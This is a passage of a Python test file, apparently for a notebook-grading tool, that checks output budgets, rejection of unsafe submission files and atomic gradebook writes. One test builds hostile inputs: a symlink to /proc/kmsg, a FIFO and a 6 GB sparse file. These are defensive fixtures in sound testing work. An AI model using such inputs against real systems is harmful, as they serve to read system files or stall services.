    executor = RobustExecute(max_output_bytes=10_000, max_notebook_output_bytes=25_000)
    executor._output_bytes, executor._truncated, executor._notebook_output_bytes = {}, set(), 0
    cells = []
    for cell_index in range(100):  # 100 cells of 9 kB each: every one under the per-cell limit
        outs = []
        executor.output(outs, {"msg_type": "stream", "content": {"name": "stdout", "text": "x" * 9_000}},
                        None, cell_index)
        cells.append(outs)
    assert cells[0] == cells[1] == ["kept"]
    assert all(len(outs) == 1 and "notebook output budget" in outs[0]["data"]["text/plain"] for outs in cells[2:])


def test_inputs_are_checked_before_they_are_read(tmp_path):
    from unit17_grading.submissions import InputRejected, read_input

    (tmp_path / "link.ipynb").symlink_to("/proc/kmsg")
    os.mkfifo(tmp_path / "fifo.ipynb")
    with open(tmp_path / "sparse.ipynb", "wb") as handle:
        handle.truncate(6 * 2**30)
    (tmp_path / "ok.ipynb").write_bytes(b"{}")
    started = time.monotonic()
    for name, words in (("link", "symbolic link"), ("fifo", "FIFO"), ("sparse", "limit is 20 MB")):
        with pytest.raises(InputRejected) as rejected:
            read_input(tmp_path / f"{name}.ipynb")
        assert words in rejected.value.detail
    assert read_input(tmp_path / "ok.ipynb") == b"{}"
    assert time.monotonic() - started < 5


def test_atomic_write_leaves_old_file_when_writing_fails(tmp_path):
    target = tmp_path / "gradebook.csv"
    book.write_atomic(target, "old\n")

    with pytest.raises(TypeError):
        book.write_atomic(target, object())  # type: ignore[arg-type]
    assert target.read_text() == "old\n"
    assert [p.name for p in tmp_path.iterdir()] == ["gradebook.csv"]
